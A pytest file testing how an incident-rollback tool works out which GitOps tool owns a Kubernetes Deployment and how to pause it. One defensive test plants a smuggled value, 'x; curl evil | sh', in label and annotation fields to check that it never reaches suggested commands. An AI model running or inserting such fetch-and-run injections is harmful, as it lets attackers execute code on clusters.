"""Who owns a workload: P6 of the scenarios, each marker in the words of its rule."""

from typing import Any

import pytest

from incident_rollback.domain.ownership import (
    MAX_DETAIL,
    NOUNS,
    Owner,
    Reverts,
    Tool,
    by_certainty,
    certain_to_revert,
    find_owners,
    how_to_pause,
    judge_application,
    what_brings_back,
)
from incident_rollback.domain.raw import Json
from incident_rollback.domain.workload import WorkloadRef

REF = WorkloadRef("production", "web")
TRACKED: Json = {"argocd.argoproj.io/tracking-id": "shop:apps/Deployment:production/web"}
COPIED = {"argocd.argoproj.io/tracking-id": "shop:apps/Deployment:staging/web"}
INSTANCE = {"app.kubernetes.io/instance": "shop"}
ARGO_WROTE = [{"manager": "argocd-controller", "operation": "Update"}]
KUSTOMIZED = {
    "kustomize.toolkit.fluxcd.io/name": "apps",
    "kustomize.toolkit.fluxcd.io/namespace": "flux-system",
}
RELEASED = {"helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "shop"}
HELM_ANNOTATIONS = {
    "meta.helm.sh/release-name": "web",
    "meta.helm.sh/release-namespace": "production",
}
HELM: Json = {"labels": {"app.kubernetes.io/managed-by": "Helm"}, "annotations": HELM_ANNOTATIONS}
RESOURCE_SET = {
    "resourceset.fluxcd.controlplane.io/name": "apps",
    "resourceset.fluxcd.controlplane.io/namespace": "flux-system",
}
SYNCED: Json = {
    "configmanagement.gke.io/managed": "enabled",
    "configsync.gke.io/manager": ":root",
    "configsync.gke.io/resource-id": "apps_deployment_production_web",
}
MUTATION = "client.lifecycle.config.k8s.io/mutation"
FLEET = {"objectset.rio.cattle.io/id": "default-shop-web"}
ADDON = {
    "objectset.rio.cattle.io/id": "",
    "objectset.rio.cattle.io/owner-gvk": "k3s.cattle.io/v1, Kind=Addon",
    "objectset.rio.cattle.io/owner-name": "web",
}
APPLIED = {"kubectl.kubernetes.io/last-applied-configuration": "{}"}
ROLLOUT = {"kind": "Rollout", "name": "web", "controller": True}

SEVERAL: Json = {"annotations": {**SYNCED, **TRACKED}, "ownerReferences": [ROLLOUT]}


def applied_by(manager: str, **changes: Any) -> Json:
    fields: Json = {"f:spec": {"f:template": {}}}
    return {"manager": manager, "operation": "Apply", "fieldsV1": fields, **changes}


def a_deployment(*fields: Json, **metadata: Any) -> Json:
    """Return a Deployment `production/web`; what is not given is absent."""
    given: Json = {"name": "web", "namespace": "production", **metadata}
    return {"metadata": {**given, "managedFields": list(fields)} if fields else given}


def found(deployment: Json) -> list[str]:
    return [f"{owner}: {owner.reverts}" for owner in find_owners(deployment)]


def an_owner(**changes: Any) -> Owner:
    made: dict[str, Any] = {
        "tool": Tool.ARGO_CD,
        "name": "shop",
        "namespace": "",
        "evidence": "an annotation",
        "reverts": "possible",
    }
    return Owner(**{**made, **changes})


MARKERS = [
    pytest.param({}, [], id="nothing on it: nobody owns it"),
    pytest.param({"labels": None, "annotations": None}, [], id="null is nothing, too"),
    pytest.param(
        {"annotations": TRACKED},
        ["Argo CD Application shop: possible"],
        id="P6 Argo CD by its tracking id; the Application was not looked at",
    ),
    pytest.param({"annotations": COPIED}, [], id="P6 a tracking id of another object is a copy"),
    pytest.param(
        {"annotations": {"argocd.argoproj.io/tracking-id": "shop:/Service:production/web"}},
        [],
        id="P6 a tracking id of another kind is a copy",
    ),
    pytest.param(
        {"annotations": {"argocd.argoproj.io/tracking-id": "shop"}},
        [],
        id="P6 garbage is no tracking id",
    ),
    pytest.param(
        {
            "annotations": {
                "argocd.argoproj.io/tracking-id": "team-a_shop:apps/Deployment:production/web"
            }
        },
        ["Argo CD Application team-a/shop: possible"],
        id="P6 an Application outside of Argo CD's namespace",
    ),
    pytest.param(
        {"labels": {"argocd.argoproj.io/instance": "shop"}},
        ["Argo CD Application shop: possible"],
        id="P6 Argo CD by the label of its own",
    ),
    pytest.param({"labels": INSTANCE}, [], id="P6 app.kubernetes.io/instance alone proves nothing"),
    pytest.param(
        {"labels": KUSTOMIZED},
        ["Flux Kustomization flux-system/apps: certain"],
        id="P6 a Kustomization corrects drift without being asked",
    ),
    pytest.param(
        {"labels": {"kustomize.toolkit.fluxcd.io/name": "apps"}},
        [],
        id="P6 half of a pair of labels is none",
    ),
    pytest.param(
        {"labels": RELEASED},
        ["Flux HelmRelease shop/web: possible"],
        id="P6 a HelmRelease may have drift detection",
    ),
    pytest.param(
        {**HELM, "labels": {**HELM["labels"], **RELEASED}},
        ["Flux HelmRelease shop/web: possible"],
        id="P6 a HelmRelease leaves Helm's marks, and is not Helm by itself",
    ),
    pytest.param(
        {"labels": RESOURCE_SET},
        ["Flux ResourceSet flux-system/apps: certain"],
        id="P6 a ResourceSet of the Flux Operator",
    ),
    pytest.param(HELM, ["Helm release production/web: never"], id="P6 Helm: nothing watches"),
    pytest.param(
        {"labels": HELM["labels"]}, [], id="P6 Helm's label alone: the chart was rendered elsewhere"
    ),
    pytest.param({"annotations": HELM_ANNOTATIONS}, [], id="P6 Helm's annotations alone"),
    pytest.param(
        {"annotations": SYNCED},
        ["Config Sync config-management-system/root-sync: certain"],
        id="P6 Config Sync, and its self-healing cannot be turned off",
    ),
    pytest.param(
        {"annotations": {**SYNCED, "configsync.gke.io/manager": ":root_shop"}},
        ["Config Sync config-management-system/shop: certain"],
        id="P6 Config Sync by a RootSync of another name",
    ),
    pytest.param(
        {"annotations": {**SYNCED, "configsync.gke.io/manager": "team-a"}},
        ["Config Sync team-a/repo-sync: certain"],
        id="P6 Config Sync by a RepoSync",
    ),
    pytest.param(
        {"annotations": {**SYNCED, "configsync.gke.io/manager": "team-a_shop"}},
        ["Config Sync team-a/shop: certain"],
        id="P6 Config Sync by a RepoSync of another name",
    ),
    pytest.param(
        {"annotations": {**SYNCED, "configsync.gke.io/resource-id": "apps_deployment_x_web"}},
        [],
        id="P6 a resource-id of another object is a copy",
    ),
    pytest.param(
        {"annotations": {"configmanagement.gke.io/managed": "enabled"}},
        [],
        id="P6 Config Sync always names its manager",
    ),
    pytest.param(
        {"annotations": {"configmanagement.gke.io/managed": "disabled"}},
        [],
        id="P6 Config Sync has let go of it",
    ),
    pytest.param(
        {"annotations": {**SYNCED, "configmanagement.gke.io/managed": "yes"}},
        [],
        id="P6 Config Sync takes enabled alone",
    ),
    pytest.param(
        {"annotations": FLEET},
        ["Fleet bundle default-shop-web: possible"],
        id="P6 Fleet may correct drift",
    ),
    pytest.param(
        {**HELM, "annotations": {**HELM_ANNOTATIONS, **FLEET}},
        ["Fleet bundle default-shop-web: possible"],
        id="P6 Fleet leaves Helm's marks, and is not Helm by itself",
    ),
    pytest.param({"annotations": ADDON}, ["Addon/web: possible"], id="P6 an Addon of k3s"),
    pytest.param(
        {"annotations": {**ADDON, **FLEET}}, ["Addon/web: possible"], id="P6 no bundle of Fleet"
    ),
    pytest.param(
        {"ownerReferences": [ROLLOUT]}, ["Rollout/web: certain"], id="P4 a controller writes it"
    ),
    pytest.param(
        {"ownerReferences": [{**ROLLOUT, "controller": None}]}, [], id="P4 an owner that only owns"
    ),
    pytest.param(
        {"annotations": APPLIED}, ["kubectl apply: never"], id="P6 last-applied: nothing watches"
    ),
]


@pytest.mark.parametrize(("metadata", "owners"), MARKERS)
def test_owners_by_their_markers(metadata: Json, owners: list[str]) -> None:
    assert found(a_deployment(**metadata)) == owners
    for owner in find_owners(a_deployment(**metadata)):
        assert owner.evidence
        assert "None" not in f"{owner.name} {owner.namespace} {owner.evidence} {owner.detail}"


WRITERS = [
    pytest.param(
        {"labels": INSTANCE},
        ARGO_WROTE,
        ["Argo CD Application shop: possible"],
        id="P6 the common label counts where Argo CD has written",
    ),
    pytest.param(
        {"labels": INSTANCE},
        [{"manager": "argocd-application-controller"}],
        ["Argo CD Application shop: possible"],
        id="P6 by the name of its manager in old clusters",
    ),
    pytest.param(
        {"labels": INSTANCE}, [{"manager": "helm"}], [], id="P6 somebody else's label is no proof"
    ),
    pytest.param(
        {"labels": {"app.kubernetes.io/instance": "web-chart"}, "annotations": TRACKED},
        ARGO_WROTE,
        ["Argo CD Application shop: possible"],
        id="P6 beside a tracking id the label is the chart's",
    ),
    pytest.param(
        {"labels": INSTANCE, "annotations": COPIED},
        ARGO_WROTE,
        ["Argo CD Application shop: possible"],
        id="P6 beside a copy the label counts",
    ),
    pytest.param(
        {"annotations": APPLIED},
        ARGO_WROTE,
        ["Argo CD Application: possible"],
        id="P6 Argo CD by a label of an unknown key; last-applied is its own",
    ),
    pytest.param(
        {"labels": {**KUSTOMIZED, **RELEASED}},
        [{"manager": "helm-controller"}],
        ["Flux HelmRelease shop/web: possible"],
        id="P6 second hop: a Kustomization that only delivers the HelmRelease",
    ),
    pytest.param(
        {"labels": {**KUSTOMIZED, **RELEASED}},
        [{"manager": "helm-controller"}, {"manager": "kustomize-controller"}],
        ["Flux Kustomization flux-system/apps: certain", "Flux HelmRelease shop/web: possible"],
        id="P6 both write it: the certain one first",
    ),
    pytest.param(
        {"labels": {**KUSTOMIZED, **RELEASED}},
        [],
        ["Flux Kustomization flux-system/apps: certain", "Flux HelmRelease shop/web: possible"],
        id="P6 nobody knows who writes it: both may",
    ),
    pytest.param(
        {},
        [applied_by("kapp-controller")],
        ["server-side apply by kapp-controller: possible"],
        id="P6 a controller applies the template",
    ),
    pytest.param(
        {},
        [applied_by("ci")],
        ["server-side apply by ci: never"],
        id="P6 something applies the template when it is run",
    ),
    pytest.param(
        {}, [applied_by("ci", operation="Update")], [], id="P6 an update is no declaration"
    ),
    pytest.param(
        {}, [applied_by("ci", fieldsV1={"f:spec": {"f:replicas": {}}})], [], id="P6 of replicas"
    ),
    pytest.param({}, [applied_by("ci", subresource="scale")], [], id="P6 of a subresource"),
    pytest.param({}, [applied_by("incident-rollback")], [], id="P6 we own nothing"),
    pytest.param({}, [applied_by("before-first-apply")], [], id="P6 a placeholder owns nothing"),
    pytest.param(
        {},
        [applied_by("kubectl")],
        ["kubectl apply: never"],
        id="P6 kubectl apply --server-side: nothing watches",
    ),
    pytest.param(
        {}, [applied_by("kubectl-edit", operation="Update")], [], id="P6 kubectl edit owns nothing"
    ),
    pytest.param(
        {**HELM, "annotations": {**HELM_ANNOTATIONS, **APPLIED}},
        [applied_by("helm")],
        ["Helm release production/web: never"],
        id="P6 what is weaker is left out",
    ),
    pytest.param(
        SEVERAL,
        [],
        [
            "Rollout/web: certain",
            "Config Sync config-management-system/root-sync: certain",
            "Argo CD Application shop: possible",
        ],
        id="P6 several: the certain ones first, among equals the stronger evidence",
    ),
]


@pytest.mark.parametrize(("metadata", "fields", "owners"), WRITERS)
def test_owners_by_who_has_written(metadata: Json, fields: list[Json], owners: list[str]) -> None:
    assert found(a_deployment(*fields, **metadata)) == owners
    for owner in find_owners(a_deployment(*fields, **metadata)):
        assert owner.evidence
        assert "None" not in f"{owner.name} {owner.namespace} {owner.evidence} {owner.detail}"


IGNORED = {MUTATION: "ignore"}
DECLARED: Json = {
    "manager": "configsync.gke.io",
    "fieldsV1": {"f:metadata": {"f:annotations": {f"f:{MUTATION}": {}}}},
}

MARKS = [
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/reconcile": "disabled"},
        "never",
        id="a Kustomization is paused by reconcile: disabled",
    ),
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/reconcile": "Disabled"},
        "never",
        id="in any case",
    ),
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/ssa": "Ignore"},
        "never",
        id="and by ssa: Ignore",
    ),
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/reconcile": "enabled"},
        "certain",
        id="not by another value",
    ),
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/ssa": "Merge"},
        "certain",
        id="ssa: Merge keeps added fields alone",
    ),
    pytest.param(
        KUSTOMIZED,
        {"kustomize.toolkit.fluxcd.io/ssa": "IfNotPresent"},
        "certain",
        id="ssa: IfNotPresent counts at the source alone",
    ),
    pytest.param(
        RELEASED,
        {"helm.toolkit.fluxcd.io/driftDetection": "disabled"},
        "never",
        id="a HelmRelease corrects nothing by driftDetection: disabled",
    ),
    pytest.param(
        RELEASED,
        {"kustomize.toolkit.fluxcd.io/reconcile": "disabled"},
        "possible",
        id="a Kustomization's mark is nothing to a HelmRelease",
    ),
    pytest.param(
        RESOURCE_SET,
        {"fluxcd.controlplane.io/reconcile": "disabled"},
        "possible",
        id="old Flux Operators ignore the mark on the object",
    ),
]


@pytest.mark.parametrize("where", ["annotations", "labels"])
@pytest.mark.parametrize(("labels", "mark", "reverts"), MARKS)
def test_flux_leaves_alone_what_the_live_object_says(
    labels: Json, mark: Json, reverts: Reverts, where: str
) -> None:
    metadata = {"labels": labels, where: {**(labels if where == "labels" else {}), **mark}}
    assert [owner.reverts for owner in find_owners(a_deployment(**metadata))] == [reverts]


SAID = [
    pytest.param(KUSTOMIZED, {"kustomize.toolkit.fluxcd.io/reconcile": "disabled"},
                 "kustomize.toolkit.fluxcd.io/reconcile: disabled on this object", id="reconcile"),
    pytest.param(KUSTOMIZED, {"kustomize.toolkit.fluxcd.io/ssa": "Ignore"},
                 "kustomize.toolkit.fluxcd.io/ssa: Ignore on this object", id="ssa"),
    pytest.param(KUSTOMIZED, {"kustomize.toolkit.fluxcd.io/ssa": "Merge"}, "", id="another value"),
    pytest.param(RELEASED, {"helm.toolkit.fluxcd.io/driftDetection": "disabled"},
                 "drift detection is disabled on this object", id="driftDetection"),
    pytest.param(RELEASED, {}, "", id="no mark"),
    pytest.param(RESOURCE_SET, {"fluxcd.controlplane.io/reconcile": "disabled"},
                 "fluxcd.controlplane.io/reconcile: disabled on this object, which old ones ignore",
                 id="a mark that old Flux Operators ignore"),
]  # fmt: skip


@pytest.mark.parametrize(("labels", "mark", "detail"), SAID)
def test_the_mark_that_counts_is_said(labels: Json, mark: Json, detail: str) -> None:
    [owner] = find_owners(a_deployment(labels=labels, annotations=mark))
    assert owner.detail == detail
    assert str(owner).startswith("Flux ")


CONFIG_SYNC = [
    pytest.param([], IGNORED, "certain", id="a mark on the live object is not the source's"),
    pytest.param([DECLARED], IGNORED, "never", id="the source opts out"),
    pytest.param(
        [{**DECLARED, "manager": "kubectl-annotate"}], IGNORED, "certain", id="a person's mark"
    ),
    pytest.param([DECLARED], {MUTATION: "x"}, "certain", id="another value"),
    pytest.param(
        [],
        {"configmanagement.gke.io/managed": "disabled"},
        "possible",
        id="it never writes `disabled` itself, so whoever did is not its source",
    ),
]


@pytest.mark.parametrize(("fields", "annotations", "reverts"), CONFIG_SYNC)
def test_config_sync_listens_to_its_source_alone(
    fields: list[Json], annotations: Json, reverts: Reverts
) -> None:
    [owner] = find_owners(a_deployment(*fields, annotations={**SYNCED, **annotations}))
    assert owner.reverts == reverts
    assert owner.evidence.startswith("annotation configsync.gke.io/manager: ")


NOTES = [
    pytest.param([DECLARED], IGNORED, "RootSync; its source says mutation: ignore", id="it counts"),
    pytest.param([], IGNORED, "RootSync; mutation: ignore on this object is not its source's, and "
                 "does not count", id="it does not count"),
    pytest.param([], {"configmanagement.gke.io/managed": "disabled"}, "RootSync; managed: disabled "
                 "on this object, which counts at its source alone", id="managed"),
]  # fmt: skip


@pytest.mark.parametrize(("fields", "annotations", "detail"), NOTES)
def test_of_config_sync_it_is_said_which_mark_counts(
    fields: list[Json], annotations: Json, detail: str
) -> None:
    [owner] = find_owners(a_deployment(*fields, annotations={**SYNCED, **annotations}))
    assert owner.detail == detail


@pytest.mark.parametrize(
    ("scope", "kind"), [(":root_shop", "RootSync"), ("production_shop", "RepoSync")]
)
def test_config_sync_is_called_by_its_kind(scope: str, kind: str) -> None:
    annotations = {**SYNCED, "configsync.gke.io/manager": scope}
    [owner] = find_owners(a_deployment(annotations=annotations))
    assert owner.detail == kind


def test_config_sync_may_leave_its_resource_id_out() -> None:
    given = {key: text for key, text in SYNCED.items() if not key.endswith("resource-id")}
    [owner] = find_owners(a_deployment(annotations=given))
    assert owner.tool is Tool.CONFIG_SYNC


def test_who_loops_is_told_by_its_name_in_any_case() -> None:
    [owner] = find_owners(a_deployment(applied_by("Shop-CONTROLLER")))
    assert owner.reverts == "possible"


def test_which_of_several_argo_cds_is_recorded() -> None:
    told = {**TRACKED, "argocd.argoproj.io/installation-id": "hub <1>"}
    [owner] = find_owners(a_deployment(annotations=told))
    assert owner.detail == "installation hub &lt;1&gt;"


def test_the_evidence_is_what_is_on_the_object() -> None:
    [owner] = find_owners(a_deployment(annotations=TRACKED))
    assert owner.evidence == (
        "annotation argocd.argoproj.io/tracking-id: shop:apps/Deployment:production/web"
    )


def test_the_second_hop_is_the_parent() -> None:
    labels = {**KUSTOMIZED, **RELEASED}
    [owner] = find_owners(a_deployment({"manager": "helm-controller"}, labels=labels))
    assert owner.parent == "Flux Kustomization flux-system/apps"


def test_a_label_of_63_characters_may_be_cut() -> None:
    labels = {"app.kubernetes.io/instance": "a" * 63}
    [owner] = find_owners(a_deployment(*ARGO_WROTE, labels=labels))
    assert owner.detail == "its name may be cut"
    labels = {"app.kubernetes.io/instance": "a" * 62}
    [owner] = find_owners(a_deployment(*ARGO_WROTE, labels=labels))
    assert owner.detail == ""


def is_command(text: str) -> bool:
    return text.startswith(("kubectl ", "flux "))


HOSTILE = "x; curl evil | sh @here <b>"


@pytest.mark.parametrize(
    "metadata",
    [
        pytest.param(
            {
                "annotations": {
                    "argocd.argoproj.io/tracking-id": f"{HOSTILE}:apps/Deployment:production/web"
                }
            },
            id="Argo CD",
        ),
        pytest.param(
            {"labels": {**KUSTOMIZED, "kustomize.toolkit.fluxcd.io/namespace": HOSTILE}},
            id="Kustomization",
        ),
        pytest.param(
            {"labels": {**RELEASED, "helm.toolkit.fluxcd.io/name": HOSTILE}}, id="HelmRelease"
        ),
        pytest.param(
            {
                "labels": {
                    **RESOURCE_SET,
                    "resourceset.fluxcd.controlplane.io/name": f"{HOSTILE}{'x' * 999}",
                }
            },
            id="ResourceSet",
        ),
        pytest.param(
            {"annotations": {**SYNCED, "configsync.gke.io/manager": HOSTILE}}, id="Config Sync"
        ),
        pytest.param({"annotations": {"objectset.rio.cattle.io/id": HOSTILE * 99}}, id="Fleet"),
        pytest.param({"ownerReferences": [{**ROLLOUT, "name": HOSTILE * 99}]}, id="controller"),
        pytest.param({"managedFields": [applied_by(HOSTILE * 99)]}, id="an applier"),
    ],
)
def test_whoever_may_annotate_a_workload_writes_no_commands(metadata: Json) -> None:
    [owner] = find_owners(a_deployment(**metadata))
    told = [owner.evidence, owner.detail, what_brings_back(owner), how_to_pause(owner, REF)]
    assert not [text for text in told if "@here" in text or "<b>" in text]
    assert not (is_command(how_to_pause(owner, REF)) and "curl" in how_to_pause(owner, REF))
    assert len(owner.name) <= 253
    assert max(map(len, told)) <= 1000


PAUSES = [
    pytest.param(
        an_owner(),
        "brings the bad revision back with any later sync, and within seconds if its self-heal is "
        "on",
        "kubectl patch applications.argoproj.io shop -n ARGOCD_NAMESPACE --type merge -p "
        '\'{"spec":{"syncPolicy":{"automated":{"enabled":false}}}}\' '
        "(before Argo CD 3.1 set automated to null instead)",
        id="Argo CD, its Application not looked at",
    ),
    pytest.param(
        an_owner(reverts="certain", namespace="argocd", is_judged=True),
        "brings the bad revision back within seconds",
        "kubectl patch applications.argoproj.io shop -n argocd --type merge -p "
        '\'{"spec":{"syncPolicy":{"automated":{"enabled":false}}}}\' '
        "(before Argo CD 3.1 set automated to null instead)",
        id="Argo CD with self-heal",
    ),
    pytest.param(
        an_owner(is_judged=True, parent="ApplicationSet/shops"),
        "brings the bad revision back with the next commit, whatever that is about "
        "(made by ApplicationSet/shops)",
        "revert the commit, for ApplicationSet/shops may take back a pause of Argo CD Application "
        "shop",
        id="Argo CD by an ApplicationSet: a pause does not last",
    ),
    pytest.param(
        an_owner(reverts="never", is_judged=True, detail="it syncs by hand only"),
        "brings the bad revision back when somebody syncs it (it syncs by hand only)",
        "revert the commit before somebody syncs it",
        id="Argo CD by hand",
    ),
    pytest.param(
        an_owner(tool=Tool.KUSTOMIZATION, namespace="flux-system", reverts="certain"),
        "brings the bad revision back at its next interval",
        "kubectl annotate deploy/web -n production kustomize.toolkit.fluxcd.io/reconcile=disabled "
        "--overwrite, or flux suspend kustomization shop -n flux-system",
        id="a Kustomization",
    ),
    pytest.param(
        an_owner(tool=Tool.KUSTOMIZATION, reverts="never"),
        "brings the bad revision back once it is no longer paused on this object",
        "revert the commit before the pause on this object is taken away",
        id="a Kustomization that is paused on the object",
    ),
    pytest.param(
        an_owner(tool=Tool.HELM_RELEASE, namespace="apps"),
        "brings the bad revision back at its next upgrade, and sooner if its drift detection is on",
        "flux suspend helmrelease shop -n apps",
        id="a HelmRelease",
    ),
    pytest.param(
        an_owner(tool=Tool.HELM_RELEASE, reverts="never"),
        "brings the bad revision back at its next upgrade",
        "flux suspend helmrelease shop -n NAMESPACE",
        id="a HelmRelease without drift detection: its upgrade is left",
    ),
    pytest.param(
        an_owner(tool=Tool.RESOURCE_SET, namespace="apps", reverts="certain"),
        "brings the bad revision back at its next interval",
        "kubectl annotate resourceset/shop -n apps fluxcd.controlplane.io/reconcile=disabled "
        "--overwrite",
        id="a ResourceSet",
    ),
    pytest.param(
        an_owner(tool=Tool.RESOURCE_SET, name=""),
        "may bring the bad revision back at any time",
        "kubectl annotate resourceset/NAME -n NAMESPACE fluxcd.controlplane.io/reconcile=disabled "
        "--overwrite",
        id="a ResourceSet of an old or a new Flux Operator, and no name",
    ),
    pytest.param(
        an_owner(tool=Tool.CONFIG_SYNC, reverts="certain"),
        "brings the bad revision back at once, or rejects the rollback",
        "revert the commit, or annotate the Deployment at its source with "
        "configmanagement.gke.io/managed: disabled; it cannot be paused in the cluster",
        id="Config Sync",
    ),
    pytest.param(
        an_owner(tool=Tool.CONFIG_SYNC, reverts="never"),
        "leaves it alone",
        "revert the commit, or annotate the Deployment at its source with "
        "configmanagement.gke.io/managed: disabled; it cannot be paused in the cluster",
        id="Config Sync whose source opts out",
    ),
    pytest.param(
        an_owner(tool=Tool.FLEET),
        "brings the bad revision back at its next deploy, and sooner if its correctDrift is on",
        "revert the commit, or set spec.paused: true on its GitRepo or Bundle, on Fleet's own "
        "cluster",
        id="Fleet",
    ),
    pytest.param(
        an_owner(tool=Tool.HELM, reverts="never"),
        "brings the bad revision back at its next upgrade",
        "revert the change at its source before the next helm upgrade, which may then need "
        "--force-conflicts",
        id="Helm",
    ),
    pytest.param(
        an_owner(tool=Tool.CONTROLLER, name="Rollout/web", reverts="certain"),
        "writes the template itself, and may write the bad revision back",
        "roll back Rollout/web instead",
        id="a controller",
    ),
    pytest.param(
        an_owner(tool=Tool.KUBECTL, name="", reverts="never"),
        "brings the bad revision back when it is next run",
        "change the manifest before the next kubectl apply",
        id="kubectl apply",
    ),
    pytest.param(
        an_owner(tool=Tool.APPLIER, name="ci", reverts="never"),
        "brings the bad revision back when it is next run",
        "revert the change at the source of ci",
        id="an applier",
    ),
    pytest.param(
        an_owner(tool=Tool.APPLIER, name="kapp-controller"),
        "may bring the bad revision back at any time",
        "revert the change at the source of kapp-controller",
        id="an applier that is a controller",
    ),
]


@pytest.mark.parametrize(("owner", "deed", "pause"), PAUSES)
def test_what_brings_it_back_and_how_to_pause_that(owner: Owner, deed: str, pause: str) -> None:
    assert what_brings_back(owner) == f"{owner} {deed}"
    assert how_to_pause(owner, REF) == pause


def test_every_kind_of_owner_has_words() -> None:
    assert set(NOUNS) == set(Tool)


LISTED = {"group": "apps", "kind": "Deployment", "namespace": "production", "name": "web"}


def an_application(automated: Json | None, **metadata: Any) -> Json:
    return {
        "metadata": {"name": "shop", "namespace": "argocd", **metadata},
        "spec": {"syncPolicy": {"automated": automated}},
        "status": {"resources": [LISTED]},
    }


SYNCS = [
    pytest.param({"selfHeal": True}, "certain", id="self-heal: within seconds"),
    pytest.param({"selfHeal": True, "enabled": True}, "certain", id="enabled, as it says itself"),
    pytest.param({"selfHeal": True, "enabled": None}, "certain", id="null is enabled"),
    pytest.param({"selfHeal": True, "enabled": False}, "never", id="paused: only a manual sync"),
    pytest.param({"selfHeal": False}, "possible", id="automated without self-heal: any commit"),
    pytest.param({}, "possible", id="an empty `automated` is active"),
    pytest.param(None, "never", id="not automated: only a manual sync"),
]


@pytest.mark.parametrize(("automated", "reverts"), SYNCS)
def test_an_application_tells_what_its_owner_does(automated: Json | None, reverts: Reverts) -> None:
    judged = judge_application(an_owner(), an_application(automated), REF)
    assert (judged.reverts, judged.is_judged, judged.namespace) == (reverts, True, "argocd")
    assert any(word in judged.detail for word in ("self-heal", "paused", "by hand"))


def test_an_application_without_a_policy_syncs_by_hand() -> None:
    judged = judge_application(an_owner(), {"metadata": {}, "spec": {}})
    assert (judged.reverts, judged.detail) == ("never", "it syncs by hand only")


def test_an_application_that_is_skipped_does_nothing() -> None:
    skipped = {"argocd.argoproj.io/skip-reconcile": "true"}
    application = an_application({"selfHeal": True}, annotations=skipped)
    judged = judge_application(an_owner(), application)
    assert (judged.reverts, "skip-reconcile" in judged.detail) == ("never", True)


def test_an_application_that_could_not_be_read_leaves_it_open() -> None:
    judged = judge_application(an_owner(detail="installation hub"), None)
    assert judged == an_owner(detail="installation hub; could not look at the Application")


def test_an_application_of_that_name_may_be_another_argo_cds() -> None:
    judged = judge_application(an_owner(), an_application(None), WorkloadRef("production", "api"))
    assert judged == an_owner(detail="the Application of that name does not list the workload")


def test_where_the_tracking_id_names_a_namespace_it_stays() -> None:
    judged = judge_application(an_owner(namespace="team-a"), an_application(None))
    assert judged.namespace == "team-a"


def test_other_owners_have_no_application() -> None:
    owner = an_owner(tool=Tool.HELM)
    assert judge_application(owner, an_application({"selfHeal": True})) is owner


PARENTS = [
    pytest.param({}, "", id="nobody: a pause lasts"),
    pytest.param(
        {"ownerReferences": [{"kind": "ApplicationSet", "name": "shops"}]},
        "ApplicationSet/shops",
        id="an ApplicationSet",
    ),
    pytest.param(
        {
            "annotations": {
                "argocd.argoproj.io/tracking-id": "root:argoproj.io/Application:argocd/shop"
            }
        },
        "Argo CD Application root",
        id="an app of apps",
    ),
    pytest.param({"annotations": TRACKED}, "", id="a copy of another object's tracking id"),
    pytest.param({"labels": KUSTOMIZED}, "Flux Kustomization flux-system/apps", id="Flux"),
]


@pytest.mark.parametrize(("metadata", "parent"), PARENTS)
def test_who_made_an_application_takes_a_pause_back(metadata: Json, parent: str) -> None:
    application = an_application({"selfHeal": True}, **metadata)
    assert judge_application(an_owner(), application).parent == parent


def test_notes_are_bounded() -> None:
    judged = judge_application(an_owner(detail="x" * 600), None)
    assert len(judged.detail) == MAX_DETAIL


def test_only_who_is_certain_to_revert_counts() -> None:
    may, sure = an_owner(reverts="possible"), an_owner(reverts="certain")
    assert certain_to_revert((may, sure)) is sure
    assert certain_to_revert((may,)) is None
    assert certain_to_revert(()) is None


def test_who_is_certain_to_revert_comes_first() -> None:
    never, may, sure = (an_owner(reverts=how) for how in ("never", "possible", "certain"))
    assert by_certainty((never, may, sure)) == (sure, may, never)
